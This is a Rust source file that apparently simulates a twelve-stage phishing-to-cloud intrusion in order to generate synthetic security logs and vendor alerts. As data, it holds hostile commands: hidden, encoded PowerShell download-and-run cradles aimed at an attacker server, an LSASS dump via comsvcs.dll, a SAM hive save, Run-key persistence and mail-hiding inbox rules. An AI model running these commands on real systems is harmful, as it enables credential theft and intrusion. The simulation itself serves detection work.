//! The story: a mail, a click, a stolen session, a foothold, a second machine, an app that stays.
//!
//! Twelve stages, one scene each, minutes to an hour apart. What a stage looks like is drawn from the
//! seed where real intrusions differ (the parent of the script host, the flag before the encoded
//! command, the way credentials are read, the key a program starts from, the way to the second
//! machine); the order is fixed. The table in `docs/reference/attack.md` says which rows a stage has.

use model::{EntityKind, Ticks};

use crate::attack::hands::{
    Running, Session, alert_id, call_host, encoded, file_of, involve_seat, new_file, open_process,
    spawn_named, take_seat,
};
use crate::attack::kit::Kit;
use crate::attack::plan::Intrusion;
use crate::background::desk::{Seat, open_with, start, start_browser};
use crate::background::mail::{draft, mailbox};
use crate::notes::{Name, name};
use crate::people::Person;
use crate::record::Woven;
use crate::rows::cloud::Activity;
use crate::rows::device_event::About;
use crate::rows::email::{Known, Mail, Mailbox};
use crate::rows::endpoint::{File, Logon, Process, Remote, Share};
use crate::rows::identity::{DirectoryLogon, Manner, Search, SignIn};
use crate::rows::report::{Evidence, Report};
use crate::stage::Stage;
use crate::stream::Script;
use crate::text::push_text;
use crate::world::App;

/// Names of the stages, their tactics and techniques, and how long the next one waits, in seconds.
const STAGES: [(Name, (u64, u64)); 12] = [
    (
        name("phishing-mail", "InitialAccess", "T1566"),
        (240, 2_400),
    ),
    (name("click", "Execution", "T1204"), (120, 900)),
    (
        name("foreign-sign-in", "InitialAccess", "T1078.004"),
        (60, 900),
    ),
    (name("script-host", "Execution", "T1059.001"), (5, 120)),
    (
        name("tool-download", "CommandAndControl", "T1105"),
        (120, 1_200),
    ),
    (name("discovery", "Discovery", "T1069.002"), (300, 1_800)),
    (
        name("credential-access", "CredentialAccess", "T1003.001"),
        (60, 900),
    ),
    (
        name("persistence", "Persistence", "T1547.001"),
        (600, 3_000),
    ),
    (
        name("lateral-movement", "LateralMovement", "T1021.002"),
        (600, 2_700),
    ),
    (
        name("oauth-consent", "CredentialAccess", "T1528"),
        (120, 1_200),
    ),
    (
        name("inbox-rule", "DefenseEvasion", "T1564.008"),
        (300, 1_800),
    ),
    (name("mass-download", "Collection", "T1530"), (0, 0)),
];

/// The script of one story.
#[derive(Debug)]
pub(crate) struct Story {
    /// Position of the intrusion in the plan.
    at: usize,
    step: usize,
    due: Option<Ticks>,
    session: Option<Session>,
    cloud_session: String,
    message: String,
    /// The script host and the implant it brought.
    host: Option<Running>,
    implant: Option<Running>,
}

/// What a scene has at hand.
struct Scene<'s, 'w> {
    stage: &'s mut Stage<'w>,
    plan: &'w Intrusion,
    kit: &'w Kit,
    victim: &'w Person,
    at: Ticks,
}

impl Story {
    pub(crate) fn new(at: usize, plan: &Intrusion) -> Self {
        Self {
            at,
            step: 0,
            due: Some(plan.begin),
            session: None,
            cloud_session: String::new(),
            message: String::new(),
            host: None,
            implant: None,
        }
    }
}

impl Script for Story {
    fn name(&self) -> String {
        format!("intrusion {}", self.at)
    }

    fn due(&self) -> Option<Ticks> {
        self.due
    }

    fn play(&mut self, stage: &mut Stage<'_>) {
        let world = stage.world;
        let (Some(at), Some((name, wait)), Some(plan)) = (
            self.due,
            STAGES.get(self.step),
            world.plan.intrusions.get(self.at),
        ) else {
            self.due = None;
            return;
        };
        stage.room = u64::MAX;
        stage.note(Woven::Stage(self.at), *name, at);
        let victim = stage.person(plan.victim);
        let scene = Scene {
            kit: &plan.kit,
            stage: &mut *stage,
            plan,
            victim,
            at,
        };
        let end = match self.step {
            0 => self.mail(scene),
            1 => self.click(scene),
            2 => self.sign_in(scene),
            3 => self.script_host(scene),
            4 => self.tool(scene),
            5 => self.discovery(scene),
            6 => self.credentials(scene),
            7 => self.persistence(scene),
            8 => self.lateral(scene),
            9 => self.consent(scene),
            10 => self.rule(scene),
            _ => self.download(scene),
        };
        stage.close_note();
        self.step += 1;
        self.due = (self.step < STAGES.len())
            .then(|| stage.dice.after(end, wait.0 * 1_000, wait.1 * 1_000));
    }
}

/// First half: from the mail to the implant.
impl Story {
    fn mail(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            at,
            ..
        } = scene;
        let mut now = at;
        // The victim first; what the others get leads nowhere.
        let others = stage.dice.between(0, 3);
        for number in 0..=others {
            let person = if number == 0 {
                scene.victim
            } else {
                stage.dice.pick(&stage.tenant.people)
            };
            let message = lure(stage, kit, person);
            if number == 0 {
                self.message.clone_from(&message.id);
            } else if person.upn == scene.victim.upn {
                continue;
            }
            stage.mail(now, &message);
            stage.involve(EntityKind::MailMessage, &message.id);
            stage.involve(EntityKind::Mailbox, &person.upn);
            now = stage.dice.after(now, 200, 4_000);
        }
        stage.involve(EntityKind::Url, &kit.link);
        stage.involve(EntityKind::Mailbox, &kit.campaign.sender.1);
        stage.involve(EntityKind::Ip, &kit.campaign.sender_ip);
        stage.involve(EntityKind::Account, &stage.person(plan.victim).upn);
        if brings_document(kit) {
            stage.involve(EntityKind::File, &kit.attachment.sha256);
        }
        now
    }

    fn click(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            victim,
            at,
        } = scene;
        let seat = take_seat(stage, plan.victim, &mut self.session, at);
        involve_seat(stage, &seat);
        let mut now = seat.ready.max(at);
        stage.url_clicked(now, &self.message, &victim.upn, &kit.link);
        now = stage.dice.after(now, 200, 1_500);
        let browser = stage.aside(|stage| start_browser(stage, &seat, now));
        now = stage.dice.after(now, 300, 1_500);
        let lure = &kit.campaign.lure;
        now = call_host(stage, seat.at, &browser, (&lure.0, &lure.1), &kit.link, now);
        stage.involve(EntityKind::MailMessage, &self.message);
        stage.involve(EntityKind::Url, &kit.link);
        stage.involve(EntityKind::Ip, &lure.1);
        if !brings_document(kit) {
            now = stage.dice.after(now, 2_000, 30_000);
            let file = download(kit, &seat);
            stage.file_touched(
                now,
                seat.at,
                &browser,
                "FileCreated",
                &file,
                Some(&kit.link),
            );
            stage.involve(EntityKind::File, &file.sha256);
        }
        now
    }

    fn sign_in(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            victim,
            at,
        } = scene;
        self.cloud_session = stage.dice.guid();
        let (risk, risk_types) = match kit.flavour(1, 4) {
            0 => (100, "[\"unfamiliarFeatures\",\"unlikelyTravel\"]"),
            1 => (10, "[\"unfamiliarFeatures\"]"),
            _ => (50, "[\"unfamiliarFeatures\"]"),
        };
        let manner = Manner {
            from: &kit.from,
            risk,
            risk_types,
            endpoint_call: "OAuth2:Authorize",
            asked_twice: kit.flavour(2, 2) == 0,
        };
        let mut sign_in = SignIn {
            person: victim,
            device: stage.device(victim.device),
            ip: &kit.from.ip,
            application: "OfficeHome",
            application_id: "4765445b-32c6-49b0-83e6-1d93765276ca",
            session: &self.cloud_session,
            error: 0,
            manner: Some(manner),
        };
        let mut now = at;
        stage.signed_in(now, &sign_in);
        now = stage.dice.after(now, 900, 9_000);
        stage.cloud_logon(now, victim, &kit.from);
        now = stage.dice.after(now, 4_000, 60_000);
        sign_in.application = "Office 365 Exchange Online";
        sign_in.application_id = "00000002-0000-0ff1-ce00-000000000000";
        stage.signed_in(now, &sign_in);
        stage.involve(EntityKind::Account, &victim.upn);
        stage.involve(EntityKind::Ip, &kit.from.ip);
        stage.involve(EntityKind::Session, &self.cloud_session);
        report_way_in(stage, self.at, plan, &self.message, now);
        now
    }

    fn script_host(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            at,
            ..
        } = scene;
        let seat = take_seat(stage, plan.victim, &mut self.session, at);
        involve_seat(stage, &seat);
        let mut now = seat.ready.max(at);
        let mut parent = if brings_document(kit) {
            open_attachment(stage, &seat, kit, &mut now)
        } else {
            let file = download(kit, &seat);
            let command = format!("\"C:\\Windows\\System32\\WScript.exe\" \"{}\"", file.path);
            let program = stage.world.programs.named("wscript.exe");
            // Opened in its folder, or from the browser's list of downloads.
            let opener = if kit.flavour(11, 2) == 0 {
                seat.shell.clone()
            } else {
                stage.aside(|stage| start_browser(stage, &seat, now))
            };
            now = stage.dice.after(now, 900, 9_000);
            start(stage, &seat, &opener, program, command, now)
        };
        now = stage.dice.after(now, 900, 20_000);
        let command = script_command(kit);
        if kit.flavour(3, 3) == 0 {
            let shell = format!("\"C:\\Windows\\System32\\cmd.exe\" /c {command}");
            parent = spawn_named(stage, seat.at, &parent, "cmd.exe", shell, now);
            now = stage.dice.after(now, 30, 400);
        }
        let host = spawn_named(stage, seat.at, &parent, "powershell.exe", command, now);
        self.host = Some(Running::of(&host));
        now
    }

    fn tool(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            victim,
            at,
        } = scene;
        let Some(host) = &self.host else { return at };
        let device = victim.device;
        let mut host = host.process(
            stage.world.programs.named("powershell.exe"),
            &victim.account,
        );
        host.elevated = false;
        let server = &kit.campaign.server;
        let url = format!("https://{}/{}", server.0, kit.flavour(4, 90_000) + 1_000);
        let mut now = call_host(stage, device, &host, (&server.0, &server.1), &url, at);
        now = stage.dice.after(now, 700, 9_000);
        let file = file_of(&kit.implant);
        stage.file_touched(now, device, &host, "FileCreated", &file, Some(&url));
        now = stage.dice.after(now, 400, 5_000);
        let mut implant = Process {
            elevated: true,
            ..host.clone()
        };
        implant.program = &kit.implant;
        implant.command = format!("\"{}\"", kit.implant.path);
        implant.pid = stage.desk(device).pid();
        implant.created = now;
        implant.parent = host.as_parent();
        stage.process_created(device, &implant, &host);
        now = stage.dice.after(now, 500, 9_000);
        now = call_host(stage, device, &implant, (&server.0, &server.1), &url, now);
        self.implant = Some(Running::of(&implant));
        stage.involve(EntityKind::Device, &stage.device(device).id);
        stage.involve(EntityKind::Account, &stage.person(plan.victim).upn);
        stage.involve(EntityKind::File, &kit.implant.sha256);
        stage.involve(EntityKind::Ip, &server.1);
        stage.involve(EntityKind::Url, &url);
        now
    }

    /// The implant of earlier scenes.
    fn implant<'w>(&self, kit: &'w Kit, victim: &'w Person) -> Option<Process<'w>> {
        let running = self.implant.as_ref()?;
        Some(running.process(&kit.implant, &victim.account))
    }

    fn discovery(&mut self, scene: Scene<'_, '_>) -> Ticks {
        const QUESTIONS: &[(&str, &str)] = &[
            ("whoami.exe", "whoami /all"),
            ("net.exe", "net  group \"Domain Admins\" /domain"),
            ("nltest.exe", "nltest /domain_trusts /all_trusts"),
            ("ipconfig.exe", "ipconfig /all"),
            ("net.exe", "net  view /all"),
        ];
        let Scene {
            stage,
            kit,
            victim,
            at,
            ..
        } = scene;
        let Some(implant) = self.implant(kit, victim) else {
            return at;
        };
        let device = victim.device;
        let mut now = at;
        let skip = kit.flavour(5, 5);
        for (number, (file, command)) in QUESTIONS.iter().enumerate() {
            if number as u64 == skip && skip != 1 {
                continue;
            }
            let shell = format!("cmd.exe /c {command}");
            let shell = spawn_named(stage, device, &implant, "cmd.exe", shell, now);
            now = stage.dice.after(now, 20, 200);
            spawn_named(stage, device, &shell, file, *command, now);
            now = stage.dice.after(now, 1_500, 40_000);
        }
        let search = Search {
            action: "SAMR query",
            kind: "QueryGroup",
            target: "Domain Admins",
            query: "",
            protocol: "Samr",
        };
        stage.directory_search(now, victim, stage.device(device), &search);
        stage.involve(EntityKind::Device, &stage.device(device).id);
        stage.involve(EntityKind::Account, &victim.upn);
        now
    }
}

/// Second half: from the victim's credentials to their files.
impl Story {
    fn credentials(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            victim,
            at,
        } = scene;
        let Some(implant) = self.implant(kit, victim) else {
            return at;
        };
        let device = victim.device;
        let lsass = stage.system_process(device, "lsass.exe", "wininit.exe");
        let mut now = at;
        let mut reader = implant.clone();
        let folder = kit.implant.path.rsplit_once('\\').map_or("", |(f, _)| f);
        let dump = stage.dice.hex(6);
        let dump = new_file(
            &mut stage.dice,
            format!("{dump}.dmp"),
            folder,
            (40_000_000, 90_000_000),
        );
        let dumps = kit.flavour(6, 3) < 2;
        if dumps {
            let command = format!(
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, {} {} {} full",
                if kit.flavour(7, 3) == 0 {
                    "#24"
                } else {
                    "MiniDump"
                },
                lsass.pid,
                dump.path
            );
            reader = spawn_named(stage, device, &implant, "rundll32.exe", command, now);
            now = stage.dice.after(now, 100, 900);
        }
        open_process(
            stage,
            device,
            &reader,
            &lsass,
            if dumps { 0x001f_ffff } else { 0x1410 },
            now,
        );
        if dumps {
            now = stage.dice.after(now, 300, 4_000);
            stage.file_touched(now, device, &reader, "FileCreated", &dump, None);
        } else {
            now = stage.dice.after(now, 900, 20_000);
            let command = format!("reg.exe save HKLM\\SAM {folder}\\{}.hiv /y", dump.name);
            spawn_named(stage, device, &implant, "reg.exe", command, now);
        }
        stage.involve(EntityKind::Device, &stage.device(device).id);
        stage.involve(EntityKind::Account, &victim.upn);
        stage.involve(EntityKind::File, &kit.implant.sha256);
        report_credentials(stage, self.at, plan, &reader, now);
        now
    }

    fn persistence(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            kit,
            victim,
            at,
            ..
        } = scene;
        let Some(implant) = self.implant(kit, victim) else {
            return at;
        };
        let device = victim.device;
        let stem = kit.implant.file.trim_end_matches(".exe");
        let (hive, path) = match kit.flavour(8, 3) {
            0 => (
                "HKEY_LOCAL_MACHINE".to_owned(),
                r"SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce",
            ),
            _ => (
                format!(r"HKEY_CURRENT_USER\{}", victim.account.sid),
                r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
            ),
        };
        let key = format!(r"{hive}\{path}");
        let mut now = at;
        let mut by = implant.clone();
        if kit.flavour(9, 2) == 0 {
            let short = if hive.contains("LOCAL") {
                "HKLM"
            } else {
                "HKCU"
            };
            let command = format!(
                "reg.exe add {short}\\{path} /v {stem} /t REG_SZ /d \"{}\" /f",
                kit.implant.path
            );
            by = spawn_named(stage, device, &implant, "reg.exe", command, now);
            now = stage.dice.after(now, 20, 200);
        }
        stage.registry_set(now, device, &by, &key, stem, &kit.implant.path);
        stage.involve(EntityKind::Device, &stage.device(device).id);
        stage.involve(EntityKind::Account, &victim.upn);
        stage.involve(EntityKind::Registry, &key);
        stage.involve(EntityKind::File, &kit.implant.sha256);
        now
    }

    fn lateral(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            plan,
            kit,
            victim,
            at,
        } = scene;
        let Some(implant) = self.implant(kit, victim) else {
            return at;
        };
        let now = cross_over(stage, plan, &implant, at);
        if kit.flavour(10, 3) == 0 {
            by_instrumentation(stage, plan, now)
        } else {
            by_service(stage, plan, now)
        }
    }

    fn consent(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            kit,
            victim,
            at,
            ..
        } = scene;
        let mut detail = String::from(
            ",\"ModifiedProperties\":[{\"Name\":\"ConsentContext.IsAdminConsent\",\"NewValue\":\
             \"False\"},{\"Name\":\"ConsentAction.Permissions\",\"NewValue\":",
        );
        push_text(
            &mut detail,
            &format!("Scope: {}", kit.app.permissions.join(" ")),
        );
        detail.push_str("}]");
        let mut activity = Activity {
            action: "Consent to application.",
            application: "Office 365",
            application_id: 11_161,
            object: kit.app.name.clone(),
            object_type: "Application",
            oauth_app: Some(&kit.app.id),
            ..self.cloud(kit, victim, detail)
        };
        let mut now = at;
        stage.cloud_activity(now, &activity);
        now = stage.dice.after(now, 400, 4_000);
        activity.action = "Add delegated permission grant.";
        stage.cloud_activity(now, &activity);
        now = stage.dice.after(now, 60_000, 600_000);
        let app = App {
            added: at,
            ..kit.app.clone()
        };
        stage.app_info(now, &app);
        stage.involve(EntityKind::OAuthApp, &kit.app.id);
        self.involve_cloud(stage, kit, victim);
        now
    }

    fn rule(&mut self, scene: Scene<'_, '_>) -> Ticks {
        const NAMES: &[&str] = &[".", "..", "rss", "sync", "aa"];
        let Scene {
            stage,
            kit,
            victim,
            at,
            ..
        } = scene;
        let name = *stage.dice.pick(NAMES);
        let words = *stage.dice.pick(&[
            "invoice;payment;bank",
            "phish;hack;suspicious",
            "wire;iban;transfer",
        ]);
        let last = match kit.flavour(11, 3) {
            0 => "{\"Name\":\"DeleteMessage\",\"Value\":\"True\"}".to_owned(),
            1 => "{\"Name\":\"MoveToFolder\",\"Value\":\"RSS Feeds\"}".to_owned(),
            _ => format!(
                "{{\"Name\":\"ForwardTo\",\"Value\":\"{}\"}}",
                kit.campaign.sender.1
            ),
        };
        let detail = format!(
            ",\"Parameters\":[{{\"Name\":\"Name\",\"Value\":\"{name}\"}},\
             {{\"Name\":\"SubjectOrBodyContainsWords\",\"Value\":\"{words}\"}},{last},\
             {{\"Name\":\"MarkAsRead\",\"Value\":\"True\"}}]"
        );
        let activity = Activity {
            action: "New-InboxRule",
            application: "Microsoft Exchange Online",
            application_id: 20_893,
            object: format!("{}\\{name}", victim.account.name),
            object_type: "Mailbox rule",
            ..self.cloud(kit, victim, detail)
        };
        stage.cloud_activity(at, &activity);
        stage.involve(EntityKind::Mailbox, &victim.upn);
        self.involve_cloud(stage, kit, victim);
        at
    }

    fn download(&mut self, scene: Scene<'_, '_>) -> Ticks {
        let Scene {
            stage,
            kit,
            victim,
            at,
            ..
        } = scene;
        let mut now = at;
        for _ in 0..stage.dice.between(25, 60) {
            let object = crate::background::desk::document_name(&mut stage.dice, "docx");
            let activity = Activity {
                action: "FileDownloaded",
                application: "Microsoft SharePoint Online",
                application_id: 20_892,
                object,
                object_type: "File",
                ..self.cloud(kit, victim, String::new())
            };
            stage.cloud_activity(now, &activity);
            now = stage.dice.after(now, 400, 6_000);
        }
        self.involve_cloud(stage, kit, victim);
        now
    }

    /// Something done in the cloud in the stolen session.
    fn cloud<'w>(&self, kit: &'w Kit, victim: &'w Person, detail: String) -> Activity<'w> {
        Activity {
            person: victim,
            ip: &kit.from.ip,
            action: "",
            application: "",
            application_id: 0,
            object: String::new(),
            object_type: "",
            session: self.cloud_session.clone(),
            admin: false,
            from: Some(&kit.from),
            detail,
            oauth_app: None,
            names_session: true,
        }
    }

    fn involve_cloud(&self, stage: &mut Stage<'_>, kit: &Kit, victim: &Person) {
        stage.involve(EntityKind::Account, &victim.upn);
        stage.involve(EntityKind::Ip, &kit.from.ip);
        stage.involve(EntityKind::Session, &self.cloud_session);
    }
}

/// Whether the mail has a document with a macro; otherwise the link leads to a script.
fn brings_document(kit: &Kit) -> bool {
    kit.flavour(0, 2) == 0
}

/// The mail to one person.
fn lure<'w>(stage: &mut Stage<'w>, kit: &'w Kit, to: &'w Person) -> Mail<'w> {
    let campaign = &kit.campaign;
    let recipient = mailbox(to);
    Mail {
        direction: "Inbound",
        sender: Mailbox {
            address: &campaign.sender.1,
            display: &campaign.sender.0,
            object_id: "",
        },
        sender_domain: &campaign.sender_domain,
        sender_ip: &campaign.sender_ip,
        recipient_domain: &stage.tenant.spec.mail_domain,
        subject: kit.subject.clone(),
        urls: vec![(kit.link.clone(), &campaign.lure.0)],
        attachments: brings_document(kit)
            .then(|| kit.attachment.clone())
            .into_iter()
            .collect(),
        known: Known {
            first_contact: Some(true),
            unauthenticated: kit.flavour(2, 5) < 3,
            bulk: None,
        },
        ..draft(stage, recipient)
    }
}

/// The script that the link leads to, as saved on the victim's machine.
fn download(kit: &Kit, seat: &Seat<'_>) -> File {
    let name = kit.attachment.name.rsplit_once('.').map_or("", |(n, _)| n);
    File {
        name: format!("{name}.js"),
        path: format!(r"C:\Users\{}\Downloads\{name}.js", seat.person.account.name),
        ..kit.attachment.clone()
    }
}

/// The victim opens the attachment; what Word or Excel then runs is its child.
fn open_attachment<'w>(
    stage: &mut Stage<'w>,
    seat: &Seat<'w>,
    kit: &Kit,
    now: &mut Ticks,
) -> Process<'w> {
    let program = stage.world.programs.named("OUTLOOK.EXE");
    let command = format!("\"{}\"", program.path);
    let began = *now;
    let outlook =
        stage.aside(|stage| start(stage, seat, &seat.shell.clone(), program, command, began));
    *now = stage.dice.after(*now, 2_000, 30_000);
    let saved = File {
        path: format!(
            r"C:\Users\{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{}",
            seat.person.account.name, kit.attachment.name
        ),
        ..kit.attachment.clone()
    };
    stage.file_touched(*now, seat.at, &outlook, "FileCreated", &saved, None);
    stage.involve(EntityKind::File, &saved.sha256);
    *now = stage.dice.after(*now, 300, 3_000);
    let office = if saved.name.ends_with("xlsm") {
        "EXCEL.EXE"
    } else {
        "WINWORD.EXE"
    };
    open_with(stage, seat, &outlook, office, &saved, *now)
}

/// How the script host is told what to do.
fn script_command(kit: &Kit) -> String {
    let server = &kit.campaign.server.0;
    let path = &kit.implant.path;
    let script = match kit.flavour(4, 3) {
        0 => format!(
            "(New-Object Net.WebClient).DownloadFile('https://{server}/a','{path}');Start-Process '{path}'"
        ),
        1 => format!("$p='{path}';iwr -UseBasicParsing https://{server}/u -OutFile $p;& $p"),
        _ => format!("Start-BitsTransfer https://{server}/p '{path}'; saps '{path}'"),
    };
    let flags = match kit.flavour(5, 5) {
        0 => "-NoP -W Hidden -enc",
        1 => "-nop -w hidden -ep bypass -e",
        2 => "-NonInteractive -WindowStyle Hidden -EncodedCommand",
        3 => "-ExecutionPolicy Bypass -ec",
        _ => "-w 1 -nop -noni -EncodedCommand",
    };
    format!("powershell.exe {flags} {}", encoded(&script))
}

/// The intruder signs in to the second machine with somebody else's rights.
fn cross_over(stage: &mut Stage<'_>, plan: &Intrusion, implant: &Process<'_>, at: Ticks) -> Ticks {
    let (from, target) = (stage.device(plan.victim), stage.device(plan.target));
    let admin = stage.person(plan.admin);
    let protocol = if plan.kit.flavour(7, 2) == 0 {
        "Ntlm"
    } else {
        "Kerberos"
    };
    let to = Remote {
        ip: &target.ip,
        port: if plan.kit.flavour(10, 3) == 0 {
            135
        } else {
            445
        },
        url: "",
        public: false,
    };
    stage.connected(at, plan.victim, implant, &to);
    let mut now = stage.dice.after(at, 20, 300);
    stage.directory_logon(
        now,
        &DirectoryLogon {
            person: admin,
            from,
            target,
            protocol,
            kind: "Credentials validation",
            additional: &format!("\"Spns\":\"cifs/{}\",\"Count\":1", target.name),
            failure: None,
        },
    );
    now = stage.dice.after(now, 20, 300);
    let logon = Logon {
        kind: "Network",
        protocol: if protocol == "Ntlm" {
            "NTLM"
        } else {
            "Kerberos"
        },
        id: stage.dice.between(200_000, 90_000_000),
        from: Some(from),
        failure: None,
        admin: true,
    };
    let lsass = stage.system_process(plan.target, "lsass.exe", "wininit.exe");
    stage.logged_on(now, plan.target, &lsass, &admin.account, &logon);
    stage.involve(EntityKind::Device, &from.id);
    stage.involve(EntityKind::Device, &target.id);
    stage.involve(EntityKind::Account, &stage.person(plan.victim).upn);
    stage.involve(EntityKind::Account, &admin.upn);
    now
}

/// A service that runs what was copied over.
fn by_service(stage: &mut Stage<'_>, plan: &Intrusion, at: Ticks) -> Ticks {
    let (helper, device) = (&plan.kit.helper, plan.target);
    let admin = stage.person(plan.admin);
    let share = Share {
        name: "ADMIN$",
        from: stage.device(plan.victim),
        account: &admin.account,
    };
    let kernel = stage.system_process(device, "ntoskrnl.exe", "");
    let mut now = stage.dice.after(at, 200, 2_000);
    let file = file_of(helper);
    stage.file_touched_over(
        now,
        device,
        &kernel,
        "FileCreated",
        &file,
        None,
        Some(&share),
    );
    let services = stage.system_process(device, "services.exe", "wininit.exe");
    now = stage.dice.after(now, 100, 900);
    let name = helper.file.trim_end_matches(".exe");
    let key = format!(r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\{name}");
    stage.registry_set(now, device, &services, &key, "ImagePath", &helper.path);
    now = stage.dice.after(now, 5, 60);
    let additional = format!(
        "{{\"ServiceName\":\"{name}\",\"ServiceAccount\":\"LocalSystem\",\"ServiceStartType\":3,\"ServiceType\":16}}"
    );
    let about = About {
        file: Some(&helper.as_file),
        account: Some(&admin.account),
        process: None,
        additional: &additional,
    };
    stage.device_event(now, device, &services, "ServiceInstalled", &about);
    now = stage.dice.after(now, 50, 600);
    let child = Process {
        program: helper,
        command: helper.path.clone(),
        pid: stage.desk(device).pid(),
        created: now,
        parent: services.as_parent(),
        ..services.clone()
    };
    stage.process_created(device, &child, &services);
    now = stage.dice.after(now, 900, 9_000);
    let command = "cmd.exe /c whoami & net localgroup administrators";
    let shell = Process {
        program: stage.world.programs.named("cmd.exe"),
        command: command.to_owned(),
        pid: stage.desk(device).pid(),
        created: now,
        parent: child.as_parent(),
        ..child.clone()
    };
    stage.process_created(device, &shell, &child);
    stage.involve(EntityKind::File, &helper.sha256);
    now
}

/// A command that the instrumentation service runs.
fn by_instrumentation(stage: &mut Stage<'_>, plan: &Intrusion, at: Ticks) -> Ticks {
    let device = plan.target;
    let provider = stage.system_process(device, "WmiPrvSE.exe", "svchost.exe");
    let mut now = stage.dice.after(at, 200, 2_000);
    let out = stage.dice.between(1_600_000_000, 1_799_999_999);
    let command = format!(
        "cmd.exe /Q /c net localgroup administrators 1> \\\\127.0.0.1\\ADMIN$\\__{out} 2>&1"
    );
    let shell = spawn_named(stage, device, &provider, "cmd.exe", command, now);
    now = stage.dice.after(now, 20, 300);
    spawn_named(
        stage,
        device,
        &shell,
        "net.exe",
        "net  localgroup administrators",
        now,
    );
    now
}

/// The vendor's own word on the sign-in or on the mail, some minutes later.
fn report_way_in(stage: &mut Stage<'_>, at: usize, plan: &Intrusion, message: &str, after: Ticks) {
    let kit = &plan.kit;
    let time = stage.dice.after(after, 60_000, 420_000);
    let victim = stage.person(plan.victim);
    let (title, severity, source, detection, prefix) = match kit.flavour(9, 4) {
        3 => (
            "A potentially malicious URL click was detected",
            "High",
            "Microsoft Defender for Office 365",
            "Microsoft Defender for Office 365",
            "fa",
        ),
        0 => (
            "Impossible travel activity",
            "Medium",
            "Microsoft Defender for Cloud Apps",
            "Cloud App Security",
            "ca",
        ),
        1 => (
            "Atypical travel",
            "Low",
            "AAD Identity Protection",
            "AAD Identity Protection",
            "ad",
        ),
        _ => (
            "Unfamiliar sign-in properties",
            "Medium",
            "AAD Identity Protection",
            "AAD Identity Protection",
            "ad",
        ),
    };
    let id = alert_id(&mut stage.dice, prefix);
    let second = if prefix == "fa" {
        Evidence::Mail(message, &kit.subject, victim)
    } else {
        Evidence::Ip(&kit.from.ip)
    };
    raise(
        stage,
        at,
        time,
        &Report {
            id: &id,
            title,
            category: "InitialAccess",
            severity,
            source,
            detection,
            technique: "Valid Accounts (T1078)",
            group: "",
            evidence: vec![Evidence::User(victim, None), second],
        },
    );
}

/// The same on what was done to the machine's credentials.
fn report_credentials(
    stage: &mut Stage<'_>,
    at: usize,
    plan: &Intrusion,
    reader: &Process<'_>,
    after: Ticks,
) {
    let time = stage.dice.after(after, 45_000, 400_000);
    let (victim, device) = (stage.person(plan.victim), stage.device(plan.victim));
    let id = alert_id(&mut stage.dice, "da");
    let implant = file_of(&plan.kit.implant);
    raise(
        stage,
        at,
        time,
        &Report {
            id: &id,
            title: "Suspicious access to LSASS service",
            category: "CredentialAccess",
            severity: "High",
            source: "Microsoft Defender for Endpoint",
            detection: "EDR",
            technique: "LSASS Memory (T1003.001)",
            group: device.group,
            evidence: vec![
                Evidence::Machine(device),
                Evidence::User(victim, Some(device)),
                Evidence::Process(reader, device),
                Evidence::File(&implant, device),
            ],
        },
    );
}

/// Puts an alert of the vendor into the stream, under a note of its own.
pub(crate) fn raise(stage: &mut Stage<'_>, intrusion: usize, at: Ticks, report: &Report<'_>) {
    let labels = [report.id, report.title, report.severity].map(str::to_owned);
    let what = name("vendor-alert", "", "");
    stage.note_labelled(Woven::VendorAlert(intrusion), what, at, labels);
    stage.report(at, report);
    stage.close_note();
}
